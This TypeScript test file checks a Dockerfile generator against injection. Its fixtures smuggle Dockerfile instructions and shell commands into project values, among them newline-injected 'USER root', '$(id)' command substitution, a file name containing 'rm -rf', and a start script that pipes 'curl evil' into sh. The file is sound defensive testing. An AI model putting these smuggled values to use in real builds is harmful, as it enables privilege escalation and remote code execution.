import { memorySnapshot } from '../../generators/core/detect/snapshot.js';
import { UserError } from '../../generators/core/errors.js';
import type { Choices } from '../../generators/core/types.js';
import { templatesDir } from '../../generators/util/package-root.js';
import { instructions } from '../harness/dockerfile-shape.js';
import { PIPELINE } from '../../generators/pipeline/index.js';

/**
 * Hostile values in every place a project can put one. Each case either is refused with a UserError,
 * or renders a Dockerfile whose parsed instruction list (keywords and every argument) equals that of
 * the same project with a harmless value, with the hostile text at most inside a JSON string or a comment.
 */

interface Case {
  readonly name: string;
  readonly root?: string;
  readonly hostile: Record<string, string>;
  readonly benign: Record<string, string>;
  readonly choices?: Choices;
  readonly workspace?: string;
}

const goServer = 'package main\nimport "net/http"\nfunc main() { http.ListenAndServe(":8080", nil) }\n';
const nodeServer = "require('http').createServer(() => {}).listen(3000);\n";
const pkg = (value: object) => JSON.stringify(value);
const HOSTILE = 'x\nUSER root\nRUN touch /pwned #$HOME\\"\'';

const render = (root: string, files: Record<string, string>, choices: Choices = {}, workspace?: string) =>
  PIPELINE.generate(PIPELINE.detect(memorySnapshot(root, files), { workspace }), choices, { templatesDir }).files.find((file) => file.path === 'Dockerfile')!
    .content;

const REFUSED: readonly Case[] = [
  { name: 'a Go main package folder with a newline', hostile: { 'go.mod': 'module m\ngo 1.26\n', [`cmd/${HOSTILE}/main.go`]: goServer }, benign: {} },
  { name: 'a Go main package folder with $(...)', hostile: { 'go.mod': 'module m\ngo 1.26\n', 'cmd/$(id)/main.go': goServer }, benign: {} },
  {
    name: 'a Node start script that needs a shell',
    hostile: { 'package.json': pkg({ scripts: { start: 'node server.js; curl evil | sh' } }), 'server.js': nodeServer },
    benign: {},
  },
  { name: 'a Node entry file name with a newline', hostile: { 'package.json': pkg({ main: `a${HOSTILE}.js` }), [`a${HOSTILE}.js`]: nodeServer }, benign: {} },
  {
    name: 'a tsconfig outDir with a newline',
    hostile: {
      'package.json': pkg({ scripts: { build: 'tsc', start: 'node dist/s.js' }, devDependencies: { typescript: '5' } }),
      'tsconfig.json': `{"compilerOptions":{"outDir":"dist\\nUSER root"}}`,
      'src/s.ts': nodeServer,
    },
    benign: {},
  },
  {
    name: 'a go.mod module path with a quote (Go refuses it too)',
    hostile: { 'go.mod': 'module example.com/$HOME#"x\ngo 1.26\n', 'main.go': goServer },
    benign: {},
  },
  {
    name: 'a Makefile TARGET that is a $(shell ...) expression',
    hostile: { Makefile: 'TARGET = $(shell evil)\n', 'm.c': 'int main(void){return 0;}\n' },
    benign: {},
  },
  {
    name: 'a Makefile TARGET with shell syntax (make would write that very file name)',
    hostile: { Makefile: 'TARGET = x;y|z\n', 'm.c': 'int main(void){return 0;}\n' },
    benign: {},
  },
  { name: 'a C source file with a semicolon', hostile: { 'a;rm -rf x.c': 'int main(void){return 0;}\n' }, benign: {} },
  {
    name: 'a Procfile web: line that chains a second command',
    hostile: { 'requirements.txt': 'gunicorn\n', Procfile: 'web: gunicorn app:app; touch /pwned\n' },
    benign: {},
  },
  {
    name: 'a requirements include named with $(...)',
    hostile: { 'requirements.txt': '-r req/$(id).txt\n', 'req/$(id).txt': 'flask\n', 'main.py': '' },
    benign: {},
  },
  {
    name: 'a console script named with a newline',
    hostile: { 'pyproject.toml': '[project]\nname = "x"\n[project.scripts]\n"a\\nUSER root" = "x:main"\n' },
    benign: {},
  },
];

const RENDERED: readonly Case[] = [
  { name: 'a Go project folder named like an instruction', root: `/p/${HOSTILE}`, hostile: { 'main.go': goServer }, benign: { 'main.go': goServer } },
  {
    name: 'a Go module path with $ and #',
    hostile: { 'go.mod': 'module example.com/$HOME#x\ngo 1.26\n', 'main.go': goServer },
    benign: { 'go.mod': 'module example.com/home-x\ngo 1.26\n', 'main.go': goServer },
  },
  {
    name: 'a Node package name with a newline',
    hostile: { 'package.json': pkg({ name: HOSTILE, main: 'server.js' }), 'server.js': nodeServer },
    benign: { 'package.json': pkg({ name: 'x', main: 'server.js' }), 'server.js': nodeServer },
  },
  {
    name: 'a Node entry whose name has $, # and quotes (exec form keeps it literal)',
    hostile: { 'package.json': pkg({ main: 'a$HOME#"q.js' }), 'a$HOME#"q.js': nodeServer },
    benign: { 'package.json': pkg({ main: 'plain.js' }), 'plain.js': nodeServer },
  },
  {
    name: 'a Procfile word with a quote and a bracket (exec form keeps it literal)',
    hostile: { 'requirements.txt': 'uvicorn\n', Procfile: `web: uvicorn 'main:app"] #' --port $PORT\n`, 'main.py': '' },
    benign: { 'requirements.txt': 'uvicorn\n', Procfile: 'web: uvicorn main:app --port $PORT\n', 'main.py': '' },
  },
  {
    name: 'a Python project name with a newline',
    hostile: { 'pyproject.toml': `[project]\nname = ${JSON.stringify(HOSTILE)}\n`, 'main.py': '' },
    benign: { 'pyproject.toml': '[project]\nname = "x"\n', 'main.py': '' },
  },
  {
    name: 'a packageManager field with a newline',
    hostile: { 'package.json': pkg({ main: 's.js', packageManager: 'pnpm@9.1.0\nRUN touch /pwned' }), 's.js': nodeServer, 'pnpm-lock.yaml': '' },
    benign: { 'package.json': pkg({ main: 's.js', packageManager: 'pnpm@9.1.0' }), 's.js': nodeServer, 'pnpm-lock.yaml': '' },
  },
];

/** An npm workspace whose member's `name` holds a newline: it once wrote `USER root` into the deps and build stages. */
const workspaceWith = (name: string) => ({
  'package.json': pkg({ name: 'mono', private: true, workspaces: ['packages/*'] }),
  'package-lock.json': pkg({ lockfileVersion: 3, packages: {} }),
  'packages/api/package.json': pkg({ name, scripts: { start: 'node server.js', build: 'node build.js' }, dependencies: { express: '^5.1.0' } }),
  'packages/api/server.js': nodeServer,
});

describe('injection corpus', () => {
  test.each(REFUSED)('refused: $name', ({ hostile }) => {
    expect(() => render('/p/app', hostile)).toThrow(UserError);
  });

  test('a workspace member name with a newline is refused by the structural guard, naming the value', () => {
    expect(render('/p/mono', workspaceWith('api'), {}, 'packages/api')).toContain('--workspace api');
    expect(() => render('/p/mono', workspaceWith('api\nUSER root\nRUN touch /x #'), {}, 'packages/api')).toThrow(
      /^the project value .*\("api\\nUSER root\\nRUN touch \/x #"\) would add or change an instruction in the Dockerfile; refused$/,
    );
  });

  test.each(RENDERED)('harmless: $name', ({ root, hostile, benign, choices, workspace }) => {
    const evil = instructions(render(root ?? '/p/app', hostile, choices, workspace));
    const good = instructions(render('/p/app', benign, choices, workspace));
    expect(evil.map((instruction) => instruction.keyword)).toEqual(good.map((instruction) => instruction.keyword));
    // Arguments differ only where the value is meant to land; never in what the instructions do.
    for (const [index, instruction] of evil.entries()) {
      if (instruction.keyword === 'CMD' || instruction.keyword === 'ENTRYPOINT') expect(JSON.parse(instruction.raw)).toEqual(expect.any(Array));
      else if (!['COPY', 'RUN'].includes(instruction.keyword)) expect(instruction.args).toBe(good[index]!.args);
      expect(instruction.args).not.toMatch(/USER root|touch \/pwned/);
    }
    expect(evil.filter((instruction) => instruction.keyword === 'USER').map((instruction) => instruction.args)).toEqual(['65532:65532']);
  });
});
